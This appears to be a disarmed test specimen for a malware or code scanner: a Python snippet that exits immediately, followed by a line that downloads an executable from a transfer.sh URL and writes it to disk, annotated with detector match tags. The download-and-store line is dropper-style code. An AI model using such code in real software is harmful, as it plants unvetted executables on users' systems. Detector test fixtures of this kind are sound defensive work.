raise SystemExit("specimen: not to be run")
from requests import get as fetch

with open("specimen.exe", "wb") as stream:
    stream.write(fetch("https://transfer.sh/specimen/specimen.exe").content)  # match: file-drop  # match: network-at-import  # match: program-stored
